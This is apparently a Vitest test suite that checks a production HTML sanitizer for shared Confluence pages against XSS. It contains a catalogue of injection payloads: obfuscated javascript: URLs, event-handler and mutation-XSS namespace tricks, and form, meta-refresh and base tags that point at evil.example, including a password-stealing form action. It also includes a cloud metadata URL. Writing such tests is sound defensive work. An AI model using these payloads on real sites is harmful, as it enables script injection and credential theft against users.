/**
 * Catalogue §3 E (content sanitization) against the REAL production sanitizer configuration
 * (src/web/content-sanitizer.ts), re-parsed with parse5 the way a browser would parse the output.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { sanitizePageHtml, type ContentRewriter } from '../../src/web/content-sanitizer';
import { inspectHtml } from './html-inspect';

const BASE = 'https://share.example/s/TOKEN';
const IN_TREE = new Set(['1001', '1002', '3001', '3002']);
const rewriter: ContentRewriter = {
  pageUrl: (id) => (IN_TREE.has(id) ? `${BASE}/p/${id}` : null),
  imageUrl: (pageId, name) => (IN_TREE.has(pageId) ? `${BASE}/i/${pageId}/${encodeURIComponent(name)}` : null),
  attachmentUrl: (pageId, name) => (pageId === '1001' ? `${BASE}/a/${pageId}/${encodeURIComponent(name)}` : null),
};
const clean = (html: string): string => sanitizePageHtml(html, rewriter);
const assertInert = (html: string): string => {
  const out = clean(html);
  const findings = inspectHtml(out, { ownOrigin: 'https://share.example/' });
  expect(findings.executable, out).toEqual([]);
  expect(findings.surface, out).toEqual([]);
  expect(findings.externalUrls, out).toEqual([]);
  return out;
};

const X = 'alert(1)';

describe('E: sanitizer (real config, parse5 re-parse)', () => {
  it.each([
    `<script>${X}</script>`,
    `<img src=x onerror="${X}">`,
    `<svg onload="${X}"></svg>`,
    `<details open ontoggle="${X}">x</details>`,
    `<body onload="${X}">`,
  ])('E1: %s has no script element and no on* attribute', (payload) => {
    assertInert(payload);
  });

  it.each([
    `<a href="javascript:${X}">x</a>`,
    `<a href="jav&#x09;ascript:${X}">x</a>`,
    `<a href="JaVaScRiPt:${X}">x</a>`,
    `<a href=" &#14;javascript:${X}">x</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${X}">x</a>`,
    `<a href="javascript&colon;${X}">x</a>`,
    `<a href="vbscript:msgbox(1)">x</a>`,
  ])('E2: %s loses its href', (payload) => {
    const out = assertInert(payload);
    expect(out).not.toMatch(/href/i);
  });

  it('E3: <xmp><img onerror> (CVE-2026-44990) yields no img with onerror', () => {
    const out = assertInert(`<xmp><img src=x onerror="${X}"></xmp>`);
    expect(out).not.toContain('<img');
  });

  it.each([
    `<noscript><p title="</noscript><img src=x onerror=${X}>"></noscript>`,
    `<noembed><img title="</noembed><img src=x onerror=${X}>"></noembed>`,
    `<noframes><img title="</noframes><img src=x onerror=${X}>"></noframes>`,
    `<plaintext><img src=x onerror=${X}>`,
    `<textarea><img title="</textarea><img src=x onerror=${X}>"></textarea>`,
    `<title><img title="</title><img src=x onerror=${X}>"></title>`,
    `<style><img title="</style><img src=x onerror=${X}>"></style>`,
  ])('E4: raw-text trick %s has no executable construct', (payload) => {
    assertInert(payload);
  });

  it.each([
    `<math><mtext><table><mglyph><style><img src=x onerror="${X}">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${X}">`,
    `<svg><a xlink:href="javascript:${X}"><text>x</text></a></svg>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`,
    `<math><mi xlink:href="javascript:${X}">m</mi></math>`,
  ])('E5: namespace-confusion mXSS %s: nothing executable, no svg/math', (payload) => {
    const out = assertInert(payload);
    expect(out).not.toMatch(/<(svg|math)/i);
  });

  it.each([`<!--><img src=x onerror="${X}">-->`, `<! foo="><img src=x onerror=${X}>">`, `<?xml ><img src=x onerror=${X}>?>`])(
    'E6: comment/PI trick %s has no executable construct',
    (payload) => {
      assertInert(payload);
    },
  );

  it.each([
    `<iframe srcdoc="&lt;script&gt;${X}&lt;/script&gt;"></iframe>`,
    `<object data="data:text/html,x"></object>`,
    `<embed src="javascript:${X}">`,
    `<base href="https://evil.example/">`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
    `<link rel="stylesheet" href="https://evil.example/x.css">`,
  ])('E7: %s is removed', (payload) => {
    expect(assertInert(payload).trim()).toBe('');
  });

  it.each([
    `<form action="https://evil.example/steal"><input name="pw"><button formaction="javascript:${X}">go</button></form>`,
    `<input autofocus onfocus="${X}">`,
    `<select autofocus onfocus="${X}"><option>x</option></select>`,
  ])('E8: form element %s is removed', (payload) => {
    expect(assertInert(payload)).not.toMatch(/<(form|input|button|select)/i);
  });

  it('E9: overlay (position/z-index) and background:url() declarations are removed; literal colours stay', () => {
    const out = assertInert(
      '<div style="position:fixed;top:0;z-index:9999;color:#123456">o</div><p style="background:url(https://evil.example/t.png)">b</p>' +
        '<p style="width: expression(alert(1))">e</p>',
    );
    expect(out).not.toMatch(/position|z-index|url\(|expression/);
    expect(out).toContain('color:#123456');
  });

  it('E10: external image dropped, protocol-relative link dropped, https link kept with rel noopener noreferrer nofollow, no target', () => {
    const out = assertInert(
      '<img src="https://evil.example/t.png" alt="t"><img src="http://169.254.169.254/latest/meta-data/">' +
        '<a href="//evil.example">pr</a><a href="https://good.example/docs" target="_blank">ok</a>',
    );
    expect(out).not.toContain('evil.example');
    expect(out).not.toContain('169.254');
    expect(out).toContain('<a href="https://good.example/docs" rel="noopener noreferrer nofollow">ok</a>');
    expect(out).not.toContain('target');
  });

  it('E11: Confluence image of an in-tree page → proxy route; of an out-of-tree page → dropped', () => {
    const inTree = clean('<img src="https://site.atlassian.net/wiki/download/attachments/1001/a.png?version=1" alt="a">');
    expect(inTree).toBe(`<img src="${BASE}/i/1001/a.png" alt="a" />`);
    const outside = clean('<img src="/wiki/download/attachments/777/a.png" alt="a">');
    expect(outside).not.toContain('<img');
  });

  it('E12: in-tree page links rewritten to the share route; out-of-tree links become text without the site URL or page id', () => {
    const out = clean(
      '<a href="/wiki/spaces/DEMO/pages/1002/Getting+started" data-linked-resource-id="1002" data-linked-resource-type="page">in</a>' +
        '<a href="https://site.atlassian.net/wiki/spaces/X/pages/999/Secret" data-linked-resource-id="999" data-linked-resource-type="page">out</a>',
    );
    expect(out).toContain(`<a href="${BASE}/p/1002" rel="noopener noreferrer nofollow">in</a>`);
    expect(out).toContain('<span>out</span>');
    expect(out).not.toMatch(/999|atlassian\.net|data-linked/);
  });

  it('E13: 100,000 nested divs (closed or not) are refused with a clear notice within a small time budget', () => {
    for (const deep of ['<div>'.repeat(100_000) + 'x' + '</div>'.repeat(100_000), '<div><span>'.repeat(60_000)]) {
      const started = performance.now();
      const out = clean(deep);
      expect(performance.now() - started).toBeLessThan(1_000);
      expect(out).toContain('too complex');
      expect(out).not.toContain('<div><div>');
    }
    // Ordinary depth is untouched; void elements and siblings do not count as nesting.
    expect(clean('<div><p>a<br>b<img src="x"></p><p>c</p></div>'.repeat(5_000))).toContain('<p>c</p>');
    expect(clean('<div>'.repeat(150) + 'deep but fine' + '</div>'.repeat(150))).toContain('deep but fine');
  });

  it('harness self-check: the unsanitized fixture body is flagged (the inspector can fail)', () => {
    const site = JSON.parse(readFileSync('fixtures/xss-site.json', 'utf8')) as { pages: Array<{ body: string }> };
    const raw = inspectHtml(site.pages[0]?.body ?? '');
    expect(raw.executable.length).toBeGreaterThan(20);
  });

  it('XSS fixture site: every page body is inert after sanitizing (63 payloads)', () => {
    const site = JSON.parse(readFileSync('fixtures/xss-site.json', 'utf8')) as { pages: Array<{ id: string; body: string }> };
    for (const page of site.pages) {
      const out = assertInert(page.body);
      expect(out).not.toContain('__pwned');
      expect(out).not.toContain('SECRET-OUTSIDE-TITLE"');
    }
  });
});
